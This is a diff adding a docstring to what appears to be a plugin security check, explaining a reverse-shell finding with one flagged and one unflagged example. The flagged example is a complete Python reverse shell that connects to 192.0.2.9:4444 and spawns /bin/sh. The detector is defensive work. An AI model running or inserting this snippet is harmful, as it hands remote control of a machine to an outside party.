@@ -1,6 +1,22 @@
 """A shell of this machine is connected to another one.
 
 Somebody else types commands here. There is no harmless reason for it in a plugin.
+
+Found in `app.py`:
+
+    import os, pty, socket
+    s = socket.socket()
+    s.connect(('192.0.2.9', 4444))
+    for n in (0, 1, 2):
+        os.dup2(s.fileno(), n)
+    pty.spawn('/bin/sh')
+
+Not found in `app.py`:
+
+    import socket
+    s = socket.socket()
+    s.connect(('192.0.2.9', 1883))
+    s.send(b'on')
 """
 
 import re
